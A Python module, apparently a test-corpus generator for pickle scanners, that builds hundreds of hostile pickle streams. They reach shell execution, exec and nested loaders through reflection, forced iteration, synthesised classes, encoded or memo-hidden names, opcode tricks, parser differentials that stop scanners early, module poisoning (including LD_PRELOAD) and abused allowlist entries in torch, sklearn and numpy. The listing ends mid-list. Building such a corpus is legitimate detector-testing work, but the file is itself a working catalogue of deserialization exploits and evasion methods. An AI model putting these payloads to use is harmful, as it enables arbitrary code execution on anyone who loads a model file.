"""Hostile pickle streams: every class that needs no container of its own.

Each function yields Case rows. All of them are written with the assembler;
none is ever loaded here. Commands touch a marker in a temporary folder.
"""

from __future__ import annotations

import struct
from dataclasses import dataclass
from typing import Iterator

import sinks
from assemble import (AddItems, Append, Appends, Build, Call, G, Get, Inst, New, NewEx, Obj, Put, Raw, SetItem, Then,
                      code, stream)
from sinks import CMD, OBJECT, PATH, PY, URL, made

SYSTEM = G("posix", "system")
RUN = Call(SYSTEM, CMD)
GETATTR = G("builtins", "getattr")
IMPORT = G("builtins", "__import__")


@dataclass
class Case:
    """One file of the corpus. sink: loading it reaches a known sink."""

    cls: str
    technique: str
    data: bytes
    sink: bool = True
    ext: str = ".pkl"
    note: str = ""


def unlisted_sinks() -> Iterator[Case]:
    """Class A: direct calls of callables that denylists forget."""
    index = 0
    for group, rows in sinks.ALL.items():
        for module, name, args in rows:
            value = Call(G(module, name), *args)
            proto = (2, 4, 0, 3, 5, 1)[index % 6]
            index += 1
            yield Case("A", f"{group} {module}.{name}", stream(value, proto), (module, name) not in sinks.WEAK,
                       note="direct call")


def dotted_names() -> Iterator[Case]:
    """Class B: STACK_GLOBAL walks attributes, so a quiet module reaches a loud one."""
    direct = [("pathlib", "os.system"), ("random", "_os.system"), ("torch.library", "torch.os.system"),
              ("torch.serialization", "os.system"), ("collections", "_sys.modules.__getitem__"),
              ("torch._utils", "torch.load"), ("argparse", "_os.system"), ("torch.nn.modules.module", "torch.hub.load"),
              ("numpy", "os.system"), ("numpy", "sys.modules.get"), ("sklearn.utils", "os.popen"),
              ("joblib.numpy_pickle", "os.system"), ("torch", "os.system"), ("typing", "sys.modules.get"),
              ("functools", "reduce.__self__.exec"), ("collections", "OrderedDict.__init__.__globals__.get"),
              ("copyreg", "__builtins__.get"), ("torch._tensor", "os.execv"), ("omegaconf", "os.system")]
    for module, name in direct:
        arg = CMD if name.endswith(("system", "popen")) else PATH
        sink = name.endswith(("system", "popen", "load", "execv", "exec"))
        yield Case("B", f"dotted {module} {name}", stream(Call(G(module, name), arg), 4), sink)
    yield Case("B", "dotted without call", stream(G("pathlib", "os.system"), 4), False, note="only fetched")


def reflection() -> Iterator[Case]:
    """Class C: reaching a sink through attributes and the object graph."""
    os_module = Call(IMPORT, "os")
    get_system = Call(GETATTR, os_module, "system")
    subclasses = Call(Call(GETATTR, G("builtins", "object"), "__subclasses__"))
    modules = G("sys", "modules")
    rows = [
        ("getattr chain", Call(get_system, CMD), True),
        ("getattr on module by sys.modules.get", Call(Call(GETATTR, Call(G("sys", "modules.get"), "os"), "system"), CMD), True),
        ("operator.attrgetter", Call(Call(G("operator", "attrgetter"), "system"), os_module), True),
        ("operator.methodcaller", Call(Call(G("operator", "methodcaller"), "system", CMD), os_module), True),
        ("methodcaller on sys.modules item", Call(Call(G("operator", "methodcaller"), "system", CMD), Call(G("operator", "getitem"), modules, "os")), True),
        ("object.__subclasses__", Call(G("operator", "getitem"), subclasses, 130), False),
        ("__globals__ of a python function", Call(G("operator", "getitem"), G("os", "fspath.__globals__"), "system"), False),
        ("__getattribute__", Call(Call(G("builtins", "object.__getattribute__"), os_module, "system"), CMD), True),
        ("statistics.mean.__getattribute__", Call(Call(G("statistics", "mean.__getattribute__"), "__globals__")), False),
        ("gc.get_referents", Call(G("gc", "get_referents"), G("os", "fspath")), False),
        ("gc.get_objects", Call(G("gc", "get_objects")), False),
        ("inspect.getattr_static", Call(Call(G("inspect", "getattr_static"), os_module, "system"), CMD), True),
        ("string.Formatter.get_field", Call(G("string", "Formatter.get_field"), made("string", "Formatter"), "0.system", (os_module,), {}), False),
        ("str.format field walk", Call(G("builtins", "str.format"), "{0.__class__.__mro__}", OBJECT), False),
        ("property.__get__", Call(G("builtins", "property.__get__"), Call(G("builtins", "property"), SYSTEM), CMD), True),
        ("cached_property.__get__", Call(G("functools", "cached_property.__get__"), Call(G("functools", "cached_property"), SYSTEM), CMD), True),
        ("DynamicClassAttribute.__get__", Call(G("types", "DynamicClassAttribute.__get__"), Call(G("types", "DynamicClassAttribute"), SYSTEM), CMD), True),
        ("WrapperDescriptorType.__get__", Call(G("types", "WrapperDescriptorType.__get__"), G("builtins", "object.__init__"), OBJECT), False),
        ("MethodType", Call(Call(G("types", "MethodType"), SYSTEM, CMD)), True),
        ("builtins.vars", Call(Call(G("operator", "getitem"), Call(G("builtins", "vars"), os_module), "system"), CMD), True),
        ("builtins.globals", Call(G("builtins", "globals")), False),
        ("builtins.setattr", Call(G("builtins", "setattr"), os_module, "fspath", SYSTEM), False),
        ("builtins.delattr", Call(G("builtins", "delattr"), os_module, "fspath"), False),
        ("torch getattr", Call(Call(GETATTR, G("torch", "os"), "system"), CMD), True),
        ("getattr of getattr", Call(Call(Call(GETATTR, Call(IMPORT, "builtins"), "getattr"), os_module, "system"), CMD), True),
        ("weakref.proxy", Call(G("weakref", "proxy"), G("os", "fspath")), False),
        ("sys._getframe", Call(G("sys", "_getframe")), False),
        ("copyreg._reconstructor on type", Call(G("copyreg", "_reconstructor"), G("builtins", "type"), G("builtins", "object"), None), False),
    ]
    for name, value, sink in rows:
        yield Case("C", name, stream(value, 4), sink)


def forced_iteration() -> Iterator[Case]:
    """Class D: someone else makes the call."""
    lists = [("map", Call(G("builtins", "map"), SYSTEM, [CMD])), ("filter", Call(G("builtins", "filter"), SYSTEM, [CMD])),
             ("itertools.starmap", Call(G("itertools", "starmap"), SYSTEM, [(CMD,)])),
             ("itertools.accumulate", Call(G("itertools", "accumulate"), [CMD, CMD], G("operator", "concat"))),
             ("itertools.takewhile", Call(G("itertools", "takewhile"), SYSTEM, [CMD])),
             ("itertools.dropwhile", Call(G("itertools", "dropwhile"), SYSTEM, [CMD])),
             ("itertools.filterfalse", Call(G("itertools", "filterfalse"), SYSTEM, [CMD])),
             ("itertools.groupby", Call(G("itertools", "groupby"), [CMD], SYSTEM)),
             ("iter with sentinel", Call(G("builtins", "iter"), Call(G("functools", "partial"), SYSTEM, CMD), 0))]
    eaters = ["list", "tuple", "set", "frozenset", "sorted", "dict"]
    for i, (name, value) in enumerate(lists):
        sink = "accumulate" not in name
        yield Case("D", f"{name} eaten by {eaters[i % 6]}", stream(Call(G("builtins", eaters[i % 6]), value), 2), sink)
    yield Case("D", "map eaten by any", stream(Call(G("builtins", "any"), lists[0][1]), 2))
    yield Case("D", "map eaten by bytes", stream(Call(G("builtins", "bytes"), lists[0][1]), 4))
    yield Case("D", "map eaten by deque", stream(Call(G("collections", "deque"), lists[0][1]), 2))
    yield Case("D", "map eaten by OrderedDict", stream(Call(G("collections", "OrderedDict"), lists[0][1]), 2))
    yield Case("D", "map eaten by EXTEND", stream(Call(G("builtins", "list.extend"), [], lists[0][1]), 4))
    yield Case("D", "map eaten by str.join", stream(Call(G("builtins", "str.join"), "", lists[0][1]), 4))
    yield Case("D", "map alone", stream(lists[0][1], 2), False, note="lazy: nothing consumes it")
    partial = Call(G("functools", "partial"), SYSTEM, CMD)
    runners = [
        ("ThreadPoolExecutor.submit", Call(G("concurrent.futures.thread", "ThreadPoolExecutor.submit"), made("concurrent.futures.thread", "ThreadPoolExecutor"), SYSTEM, CMD)),
        ("ProcessPoolExecutor.submit", Call(G("concurrent.futures", "ProcessPoolExecutor.submit"), made("concurrent.futures", "ProcessPoolExecutor"), SYSTEM, CMD)),
        ("sched.scheduler.run", Call(G("sched", "scheduler.run"), Call(G("sched", "scheduler.enter"), made("sched", "scheduler"), 0, 1, SYSTEM, (CMD,)))),
        ("weakref.finalize", Call(G("weakref", "finalize"), OBJECT, SYSTEM, CMD)),
        ("ExitStack.callback", Call(G("contextlib", "ExitStack.callback"), made("contextlib", "ExitStack"), SYSTEM, CMD)),
        ("Context.run", Call(G("contextvars", "Context.run"), made("contextvars", "Context"), SYSTEM, CMD)),
        ("functools.reduce", Call(G("functools", "reduce"), SYSTEM, [CMD, CMD])),
        ("functools.partial called", Call(partial)),
        ("functools.cmp_to_key", Call(Call(G("functools", "cmp_to_key"), SYSTEM), CMD)),
        ("threading.Timer", Call(G("threading", "Timer.start"), made("threading", "Timer", 0, SYSTEM, (CMD,)))),
        ("threading.Thread", Call(G("threading", "Thread.run"), made("threading", "Thread", None, SYSTEM, "x", (CMD,)))),
        ("atexit.register", Call(G("atexit", "register"), SYSTEM, CMD)),
        ("logging.Filterer", Call(G("logging", "Filterer.filter"), Build(made("logging", "Filterer"), {"filters": [SYSTEM]}), CMD)),
        ("operator.call", Call(G("operator", "call"), SYSTEM, CMD)),
        ("builtins.max key", Call(Call(G("functools", "partial"), G("builtins", "max"), CMD, CMD))),
        ("asyncio call_soon", Call(G("asyncio", "BaseEventLoop.call_soon"), OBJECT, SYSTEM, CMD)),
        ("collections.defaultdict factory", Call(G("operator", "getitem"), Call(G("collections", "defaultdict"), partial), "x")),
        ("ChainMap over defaultdict by format_map", Call(G("builtins", "str.format_map"), "{x}", made("collections", "ChainMap", Call(G("collections", "defaultdict"), partial)))),
        ("re.sub callback", Call(G("re", "sub"), "touch.*", SYSTEM, CMD)),
        ("torch.utils.data map_fn", Call(G("torch.utils.data.datapipes.iter.callable", "MapperIterDataPipe"), [CMD], SYSTEM)),
        ("torch.nn.Module.apply", Call(G("torch.nn.modules.module", "Module.apply"), OBJECT, SYSTEM)),
        ("signal handler", Call(G("signal", "signal"), 14, SYSTEM)),
        ("multiprocessing pool", Call(G("multiprocessing.pool", "Pool.apply"), made("multiprocessing.pool", "ThreadPool", 1), SYSTEM, (CMD,))),
        ("multiprocessing mapstar", Call(G("multiprocessing.pool", "mapstar"), ((SYSTEM, [CMD]),))),
    ]
    for name, value in runners:
        yield Case("D", name, stream(value, 4), name != "builtins.max key")


DUNDERS = [("__eq__", "eq"), ("__lt__", "lt"), ("__gt__", "gt"), ("__getitem__", "getitem"), ("__contains__", "contains"),
           ("__add__", "add"), ("__radd__", "add"), ("__iadd__", "iadd"), ("__mul__", "mul"), ("__matmul__", "matmul"),
           ("__or__", "or_"), ("__xor__", "xor"), ("__mod__", "mod"), ("__delitem__", "delitem"), ("__call__", "call")]


def synthesised_classes() -> Iterator[Case]:
    """Class E: a class made at load whose dunder is the sink."""
    for dunder, operation in DUNDERS:
        cls = Call(G("builtins", "type"), "X", (G("builtins", "object"),), {dunder: SYSTEM})
        args = (CMD, Call(cls)) if dunder == "__radd__" else (Call(cls), CMD)
        yield Case("E", f"type with {dunder}", stream(Call(G("operator", operation), *args), 2))
    maker = G("builtins", "type")
    rows = [
        ("type with __fspath__", Call(G("os", "fspath"), Call(Call(maker, "X", (), {"__fspath__": Call(G("functools", "partial"), SYSTEM, CMD)}))), True),
        ("type with __del__", Then(Call(Call(maker, "X", (), {"__del__": Call(G("functools", "partial"), SYSTEM, CMD)})), None), True),
        ("type with __reduce__", Call(G("copy", "copy"), Call(Call(maker, "X", (), {"__reduce__": SYSTEM}))), True),
        ("type with __init_subclass__", Call(maker, "Y", (Call(maker, "X", (), {"__init_subclass__": SYSTEM}),), {}), True),
        ("type with __set_name__", Call(maker, "Y", (), {"a": Call(Call(maker, "X", (), {"__set_name__": SYSTEM}))}), True),
        ("type with __iter__", Call(G("builtins", "list"), Call(Call(maker, "X", (), {"__iter__": SYSTEM}))), True),
        ("type without use", Call(maker, "X", (), {"a": 1}), False),
        ("types.new_class", Call(G("types", "new_class"), "X", (), {}, SYSTEM), True),
        ("enum.Enum functional", Call(G("enum", "Enum"), "X", {"a": 1}), False),
        ("enum._missing_", Call(G("enum", "EnumMeta.__call__"), G("enum", "Enum"), "X"), False),
        ("collections.namedtuple", Call(G("collections", "namedtuple"), "X", "a b"), False),
        ("typing.NamedTuple", Call(G("typing", "NamedTuple"), "X", [("a", "int")]), False),
        ("dataclasses.make_dataclass", Call(G("dataclasses", "make_dataclass"), "X", [("a", "int")]), False),
        ("dataclasses._create_fn", Call(G("dataclasses", "_create_fn"), "f", (), [PY]), True),
        ("typing.get_type_hints", Call(G("typing", "get_type_hints"), Build(Call(maker, "X", (), {}), {"__annotations__": {"a": PY}})), False),
        ("typing._eval_type", Call(G("typing", "_eval_type"), Call(G("typing", "ForwardRef"), PY), {}, {}), True),
        ("ForwardRef._evaluate", Call(G("typing", "ForwardRef._evaluate"), Call(G("typing", "ForwardRef"), PY), {}, {}, None), True),
        ("abc.ABCMeta", Call(G("abc", "ABCMeta"), "X", (), {"__eq__": SYSTEM}), True),
        ("dynamic imports", SetItem(G("transformers.utils", "_dynamic_imports"), "x", "os"), False),
    ]
    for name, value, sink in rows:
        yield Case("E", name, stream(value, 4), sink)


def hidden_strings() -> Iterator[Case]:
    """Class F: operands that no string search finds."""
    joined = Call(G("builtins", "str.join"), "", ["po", "six"])
    formatted = Call(G("builtins", "str.format"), "{0}{1}", "sys", "tem")
    rot = Call(G("codecs", "decode"), "cbfvk", "rot13")
    ints = Call(G("builtins", "bytes.decode"), Call(G("builtins", "bytes"), [112, 111, 115, 105, 120]))
    for name, module in (("joined", joined), ("rot13", rot), ("bytes of ints", ints)):
        value = Call(Call(GETATTR, Call(IMPORT, module), formatted), CMD)
        yield Case("F", f"{name} module name", stream(value, 4), note="getattr(__import__(hidden), hidden)")
    yield Case("F", "stack global from computed string", stream(Call(Raw(code(joined, 4) + code(formatted, 4) + b"\x93"), CMD), 4),
               False, note="CPython wants str operands; these are str only at run time")
    hidden = b"S'\\x70osix'\n" + b"S'sys\\164em'\n" + b"\x93"
    yield Case("F", "text escapes", stream(Call(Raw(hidden), CMD), 4))
    binstring = b"U\x05posix" + b"T" + struct.pack("<I", 6) + b"system" + b"\x93"
    yield Case("F", "BINSTRING operands", stream(Call(Raw(binstring), CMD), 4))
    unicode_text = b"V\\u0070osix\n" + b"V\\u0073ystem\n" + b"\x93"
    yield Case("F", "UNICODE escapes", stream(Call(Raw(unicode_text), CMD), 4))
    memo = b"\x8c\x05posix\x94" + b"0" + b"\x8c\x06system\x94" + b"0" + b"h\x00h\x01\x93"
    yield Case("F", "memo indirection", stream(Call(Raw(memo), CMD), 4))
    swapped = b"\x8c\x06system\x94" + b"\x8c\x05posix\x94" + b"00" + b"h\x01h\x00\x93"
    yield Case("F", "memo indirection swapped", stream(Call(Raw(swapped), CMD), 4))
    overwritten = b"\x8c\x04math" + b"q\x05" + b"0" + b"\x8c\x05posix" + b"q\x05" + b"0" + b"h\x05" + b"\x8c\x06system\x93"
    yield Case("F", "memo slot overwritten", stream(Call(Raw(overwritten), CMD), 4))
    decoy = b"\x8c\x05posix" + b"\x8c\x04math" + b"0" + b"\x8c\x06system" + b"\x93"
    yield Case("F", "decoy removed by POP", stream(Call(Raw(decoy), CMD), 4))
    mark = b"\x8c\x05posix" + b"(" + b"\x8c\x04mathK\x01K\x02" + b"1" + b"\x8c\x06system" + b"\x93"
    yield Case("F", "decoy removed by POP_MARK", stream(Call(Raw(mark), CMD), 4))
    dup = b"\x8c\x05posix" + b"2" + b"0" + b"\x8c\x06system\x93"
    yield Case("F", "operand duplicated", stream(Call(Raw(dup), CMD), 4))
    far = b"\x8c\x05posix" + b"r\xff\xff\x00\x00" + b"0" + b"j\xff\xff\x00\x00" + b"\x8c\x06system\x93"
    yield Case("F", "memo far away", stream(Call(Raw(far), CMD), 4))
    encoded = Call(G("builtins", "exec"), Call(G("base64", "b64decode"), "cHJpbnQoMSk="))
    yield Case("F", "base64 code", stream(encoded, 2))
    packed = Call(G("builtins", "exec"), Call(G("zlib", "decompress"), Call(G("codecs", "decode"), "78da2b28cacc2bd130d404000e1502b0", "hex")))
    yield Case("F", "zlib hex code", stream(packed, 2))
    reverse = Call(G("operator", "getitem"), "metsys", Call(G("builtins", "slice"), None, None, -1))
    yield Case("F", "reversed name", stream(Call(Call(GETATTR, Call(IMPORT, "posix"), reverse), CMD), 2))
    chars = Call(G("builtins", "str.join"), "", Call(G("builtins", "map"), G("builtins", "chr"), [115, 121, 115, 116, 101, 109]))
    yield Case("F", "chr map", stream(Call(Call(GETATTR, Call(IMPORT, "os"), chars), CMD), 4))


def opcodes() -> Iterator[Case]:
    """Class G: calls without a plain REDUCE."""
    rows = [
        ("INST", Inst("posix", "system", CMD), 0, True), ("OBJ", Obj(SYSTEM, CMD), 2, True),
        ("INST subprocess.Popen", Inst("subprocess", "Popen", ["true"]), 1, True),
        ("OBJ of Popen", Obj(G("subprocess", "Popen"), ["true"]), 1, True),
        ("NEWOBJ", New(G("subprocess", "Popen"), ["true"]), 2, False),
        ("NEWOBJ_EX of FileIO", NewEx(G("_io", "FileIO"), (PATH, "w"), {}), 4, False),
        ("REDUCE then POP", Then(RUN, {"weight": [1.0]}), 2, True),
        ("REDUCE inside a POP_MARK", Raw(b"(" + code(RUN, 2) + b"1" + code({"a": 1}, 2)), 2, True),
        ("BUILD on a function", Build(G("numpy", "size"), (None, {"__code__": None})), 2, False),
        ("BUILD on a function by defaults", Build(G("os", "fspath"), (None, {"__defaults__": (CMD,)})), 2, False),
        ("BUILD on a module", Build(G("numpy", "__builtins__"), {"size": G("builtins", "exec")}), 2, True),
        ("BUILD on sys.modules", Build(G("sys", "modules"), {"collections": G("posix", "__doc__")}), 2, False),
        ("BUILD on a class", Build(G("collections", "OrderedDict"), (None, {"__setitem__": SYSTEM})), 2, True),
        ("double BUILD", Build(Build(Call(G("argparse", "Namespace")), {"__setstate__": SYSTEM}), CMD), 2, True),
        ("double BUILD on a Module", Build(Build(New(G("torch.nn.modules.linear", "Identity")), {"__setstate__": SYSTEM}), CMD), 2, True),
        ("APPEND calls obj.append", Append(Build(Call(G("argparse", "Namespace")), {"append": SYSTEM}), CMD), 2, True),
        ("APPENDS calls obj.extend", Appends(Build(Call(G("argparse", "Namespace")), {"extend": SYSTEM}), (CMD,)), 2, True),
        ("ADDITEMS calls obj.add", AddItems(Build(Call(G("argparse", "Namespace")), {"add": SYSTEM}), (CMD,)), 4, True),
        ("APPEND to a global list", Append(G("sys", "path"), "/tmp/andiron-demo"), 2, False),
        ("APPENDS to sys.meta_path", Appends(G("sys", "meta_path"), (SYSTEM,)), 2, True),
        ("SETITEM on sys.modules", SetItem(G("sys", "modules"), "json", G("posix", "__doc__")), 2, False),
        ("SETITEM on os.environ", SetItem(G("os", "environ"), "LD_PRELOAD", "/tmp/andiron-demo/x.so"), 2, False),
        ("SETITEM on builtins dict", SetItem(G("builtins", "__dict__"), "len", SYSTEM), 2, True),
        ("SETITEM on torch globals", SetItem(G("torch.serialization", "__dict__"), "load", SYSTEM), 2, True),
        ("ADDITEMS to a global set", AddItems(G("torch._weights_only_unpickler", "_marked_safe_globals_set"), (SYSTEM,)), 4, True),
        ("SETITEM on a tensor", SetItem(Call(G("torch._utils", "_rebuild_tensor_v2"), None, 0, (1,), (1,), False, Call(G("collections", "OrderedDict"))), 0, 1), 2, False),
        ("import only", G("andiron_marker_module", "x"), 2, False),
        ("import of a script-like module", G("antigravity", "geohash"), 2, False),
        ("import this", G("this", "s"), 2, False),
        ("memo recall then REDUCE", Then(Put(9, SYSTEM), Call(Get(9), CMD)), 2, True),
    ]
    for name, value, proto, sink in rows:
        yield Case("G", name, stream(value, proto), sink)
    for width, op in ((1, b"\x82\xf0"), (2, b"\x83\xf0\x00"), (4, b"\x84\xf0\x00\x00\x00")):
        register = Call(G("copyreg", "add_extension"), "posix", "system", 240)
        yield Case("G", f"EXT{width} after add_extension", stream(Then(register, Call(Raw(op), CMD)), 2))
    yield Case("G", "EXT of an unknown code", stream(Call(Raw(b"\x82\x07"), CMD), 2), False)


def parser_differentials() -> Iterator[Case]:
    """Class H: scanners stop where the loader has already run."""
    whole = stream(RUN, 2)
    body = whole[:-1]
    rows = [
        ("no STOP", body), ("invalid opcode after payload", body + b"\xff."), ("stack underflow after payload", body + b"000."),
        ("truncated operand after payload", body + b"X\xff\x00\x00\x00abc"), ("unknown memo get after payload", body + b"h\x63."),
        ("bad utf-8 after payload", body + b"X\x02\x00\x00\x00\xff\xfe."), ("bad int text after payload", body + b"Inotanumber\n."),
        ("mark missing after payload", body + b"t."), ("reduce of a non-tuple after payload", body + b"NNR."),
        ("protocol 200 after payload", body + b"\x80\xc8."), ("binpersid after payload", body + b"Q."),
        ("byteorder junk after STOP", whole + b"\x00" * 64), ("text after STOP", whole + b"-----END-----\n"),
        ("second pickle", stream({"a": 1}, 2) + whole), ("second pickle after junk", stream({"a": 1}, 2) + b"\x00\x01junk\xff" + whole),
        ("second pickle after newlines", stream([1], 0) + b"\n\n\n" + whole), ("second pickle after STOPs", stream(1, 2) + b"...." + whole),
        ("third pickle", stream(1, 2) + stream(2, 4) + whole),
        ("PUT key with blank", b"\x80\x02cposix\nsystem\np 1\n0g1\n" + code((CMD,), 2) + b"R."),
        ("PUT key with underscore", b"\x80\x02cposix\nsystem\np1_0\n0g10\n" + code((CMD,), 2) + b"R."),
        ("PUT key with plus", b"\x80\x02cposix\nsystem\np+11\n0g11\n" + code((CMD,), 2) + b"R."),
        ("PUT key with zeros", b"\x80\x02cposix\nsystem\np0007\n0g7\n" + code((CMD,), 2) + b"R."),
        ("BINPUT and MEMOIZE mixed", b"\x80\x04K\x01q\x000\x8c\x05posix\x940\x8c\x06system\x940h\x01h\x02\x93" + code((CMD,), 4) + b"R."),
        ("GET before PUT by MEMOIZE count", b"\x80\x04\x8c\x05posix\x940\x8c\x06system\x940h\x00h\x01\x93" + code((CMD,), 4) + b"R."),
        ("no PROTO", body[2:] + b"."), ("PROTO twice", b"\x80\x02" + whole), ("PROTO in the middle", b"\x80\x00" + whole),
        ("protocol 5 opcodes under PROTO 2", b"\x80\x02" + code(RUN, 4) + b"."),
        ("GLOBAL with carriage return", b"\x80\x02cposix\r\nsystem\r\n" + code((CMD,), 2) + b"R."),
        ("GLOBAL of a python 2 name", b"\x80\x02c__builtin__\neval\n" + code((PY,), 2) + b"R."),
        ("GLOBAL of a python 2 module", b"\x80\x02ccommands\ngetoutput\n" + code((CMD,), 2) + b"R."),
        ("GLOBAL with non-ASCII spelling", "\x80\x02".encode("latin1") + "cposix\nsystem\n".encode() + code((CMD,), 2) + b"R."),
        ("INT as bool text", b"I01\n0" + stream(RUN, 0)), ("LONG4 noise first", b"\x80\x02\x8b\x01\x00\x00\x00\x070" + whole[2:]),
        ("NEXT_BUFFER noise", b"\x80\x05" + code(RUN, 5) + b"\x97."), ("READONLY_BUFFER noise", b"\x80\x05" + code(RUN, 5) + b"\x98."),
    ]
    for name, data in rows:
        yield Case("H", name, data, not name.startswith("GLOBAL with carriage"))
    inner = code(RUN, 4) + b"."
    for name, length in (("short", 4), ("zero", 0), ("long", len(inner) + 9), ("huge", 2**62), ("one less", len(inner) - 1)):
        data = b"\x80\x04\x95" + struct.pack("<Q", length) + inner
        yield Case("H", f"FRAME {name}", data, name in ("short", "zero", "one less"), note="C and Python unpicklers differ")
    split = code(SYSTEM, 4)
    data = b"\x80\x04\x95" + struct.pack("<Q", len(split)) + split + code((CMD,), 4) + b"R."
    yield Case("H", "payload outside the frame", data)
    yield Case("H", "frame inside a frame", b"\x80\x04\x95" + struct.pack("<Q", len(inner) + 9) + b"\x95" + struct.pack("<Q", len(inner)) + inner)


def nested() -> Iterator[Case]:
    """Class I: bytes that flow into a loader."""
    inner = stream(RUN, 2)
    loaders = [("pickle", "loads"), ("_pickle", "loads"), ("cPickle", "loads"), ("torch.storage", "_load_from_bytes"), ("dill", "loads"),
               ("cloudpickle", "loads"), ("cloudpickle.cloudpickle", "loads"), ("joblib.externals.cloudpickle", "loads"),
               ("jsonpickle", "decode"), ("sklearn.externals.joblib.numpy_pickle", "load"), ("torch.package", "_package_unpickler.loads")]
    for module, name in loaders:
        yield Case("I", f"{module}.{name}", stream(Call(G(module, name), inner), 3))
    streams = [("numpy", "load", (None, True)), ("joblib", "load", ()), ("pandas", "read_pickle", ()), ("torch", "load", ()),
               ("pickle", "load", ()), ("pickle", "Unpickler", ()), ("torch.jit", "load", ()), ("joblib.numpy_pickle", "load", ())]
    for module, name, rest in streams:
        yield Case("I", f"{module}.{name} of BytesIO", stream(Call(G(module, name), made("_io", "BytesIO", inner), *rest), 3))
    yield Case("I", "yaml.unsafe_load", stream(Call(G("yaml", "unsafe_load"), "!!python/object/apply:posix.system ['true']"), 2))
    twice = stream(Call(G("pickle", "loads"), stream(Call(G("pickle", "loads"), inner), 4)), 4)
    yield Case("I", "three deep", twice)
    encoded = Call(G("_codecs", "encode"), inner.decode("latin1"), "latin1")
    yield Case("I", "latin1 text to loads", stream(Call(G("pickle", "loads"), encoded), 2))
    yield Case("I", "bytearray to loads", stream(Call(G("pickle", "loads"), Call(G("builtins", "bytearray"), inner)), 3))
    yield Case("I", "memo to loads", stream(Then(Put(4, inner), Call(G("pickle", "loads"), Get(4))), 3))
    yield Case("I", "marshal into FunctionType", stream(Call(Call(G("types", "FunctionType"), Call(G("marshal", "loads"), b"N"), {})), 3))
    yield Case("I", "bz2 into loads", stream(Call(G("pickle", "loads"), Call(G("bz2", "decompress"), b"BZh9")), 3))


def module_poisoning() -> Iterator[Case]:
    """Class M: make an allowed name mean something else, then use it."""
    allowed = Call(G("collections", "OrderedDict"), [(CMD, 1)])
    rows = [
        ("overwrite collections", Then(SetItem(G("sys", "modules"), "collections", Call(IMPORT, "os")), allowed), False),
        ("setattr on torch._utils", Then(Call(G("builtins", "setattr"), Call(IMPORT, "torch._utils"), "_rebuild_tensor_v2", SYSTEM), Call(G("torch._utils", "_rebuild_tensor_v2"), CMD)), True),
        ("BUILD on OrderedDict class", Then(Build(G("collections", "OrderedDict"), (None, {"__init__": SYSTEM})), allowed), True),
        ("sys.path then import", Then(Call(G("builtins", "list.append"), G("sys", "path"), "/tmp/andiron-demo"), G("andiron_marker", "x")), False),
        ("sys.path.insert then import", Then(Call(G("sys", "path.insert"), 0, "/tmp/andiron-demo"), G("andiron_marker", "x")), False),
        ("local module beside the model", Call(G("model_utils", "Config")), False),
        ("path hook", Append(G("sys", "path_hooks"), SYSTEM), True),
        ("copyreg.dispatch_table", SetItem(G("copyreg", "dispatch_table"), G("builtins", "int"), SYSTEM), True),
        ("copyreg.pickle", Call(G("copyreg", "pickle"), G("builtins", "int"), SYSTEM), True),
        ("torch add_safe_globals", Call(G("torch.serialization", "add_safe_globals"), [SYSTEM]), True),
        ("torch register_package", Call(G("torch.serialization", "register_package"), 0, SYSTEM, SYSTEM), True),
        ("torch.nn.Module hook", Build(New(G("torch.nn.modules.linear", "Identity")), {"_forward_pre_hooks": {0: SYSTEM}}), True),
        ("state_dict hook", Build(New(G("torch.nn.modules.linear", "Identity")), {"_load_state_dict_pre_hooks": {0: Call(G("functools", "partial"), SYSTEM, CMD)}}), True),
        ("forward replaced on instance", Build(New(G("torch.nn.modules.linear", "Identity")), {"forward": SYSTEM}), True),
        ("typosquatted package", Call(G("torchs.nn", "Linear"), 1, 1), False),
        ("capital spelled module", Call(G("Torch.nn", "Linear"), 1, 1), False),
        ("submodule that torch lacks", Call(G("torch.nn.modules.linears", "Linear"), 1, 1), False),
        ("memo hole of a splice", Raw(b"\x80\x02}q\x00X\x01\x00\x00\x00aq\x01" + code(RUN, 2) + b"q\x07s"), True),
    ]
    for name, value, sink in rows:
        yield Case("M", name, stream(value, 2), sink)


def abused_allowlists() -> Iterator[Case]:
    """Class N: names that reviewed lists hold, used beyond their contract."""
    inner = stream(RUN, 2)
    rows = [
        ("FunctionTransformer over a sink", Call(G("sklearn.preprocessing._function_transformer", "FunctionTransformer"), SYSTEM), True),
        ("FunctionTransformer transform", Call(G("sklearn.preprocessing._function_transformer", "FunctionTransformer.transform"), Call(G("sklearn.preprocessing._function_transformer", "FunctionTransformer"), SYSTEM), CMD), True),
        ("DataLoader collate", Call(G("torch.utils.data.dataloader", "DataLoader"), [CMD], 1, False, None, None, 0, SYSTEM), True),
        ("joblib._pickle_load", Call(G("joblib.numpy_pickle_utils", "_pickle_load"), inner), False),
        ("_pickle.Unpickler.load", Call(G("_pickle", "Unpickler.load"), Call(G("_pickle", "Unpickler"), made("_io", "BytesIO", inner))), True),
        ("functools.partial over a sink", Call(Call(G("functools", "partial"), SYSTEM), CMD), True),
        ("_codecs.encode with a hook", Call(G("_codecs", "encode"), "x", "andiron_codec"), False),
        ("_codecs.register", Call(G("_codecs", "register"), SYSTEM), True),
        ("_rebuild_from_type_v2 calls its argument", Call(G("torch._tensor", "_rebuild_from_type_v2"), SYSTEM, G("torch", "Tensor"), (CMD,), None), True),
        ("_reconstruct of a strange class", Call(G("numpy.core.multiarray", "_reconstruct"), G("subprocess", "Popen"), (0,), b"b"), True),
        ("copyreg._reconstructor of Popen", Call(G("copyreg", "_reconstructor"), G("subprocess", "Popen"), G("builtins", "object"), None), False),
        ("copyreg.__newobj__ of FileIO", Call(G("copyreg", "__newobj__"), G("_io", "FileIO"), PATH), False),
        ("defaultdict with a sink factory", Call(G("collections", "defaultdict"), SYSTEM), True),
        ("numpy scalar with object dtype", Call(G("numpy.core.multiarray", "scalar"), Call(G("numpy", "dtype"), "O8", False, True), inner), False),
        ("omegaconf container around a sink", Build(New(G("omegaconf.dictconfig", "DictConfig")), {"_content": {"a": Call(SYSTEM, CMD)}}), True),
        ("logging.Logger handlers", Build(New(G("logging", "Logger")), {"handlers": [Call(G("logging", "FileHandler"), PATH)]}), True),
        ("torch.Size over a forced map", Call(G("torch", "Size"), Call(G("builtins", "map"), SYSTEM, [CMD])), True),
        ("set over a forced map", Call(G("__builtin__", "set"), Call(G("itertools", "imap"), SYSTEM, [CMD])), True),
        ("bytearray over a forced map", Call(G("__builtin__", "bytearray"), Call(G("builtins", "map"), SYSTEM, [CMD])), True),
        ("Counter over a forced map", Call(G("collections", "Counter"), Call(G("builtins", "map"), SYSTEM, [CMD])), True),
        ("getattr pair for enums", Call(GETATTR, G("signal", "Signals"), "__init__"), False),
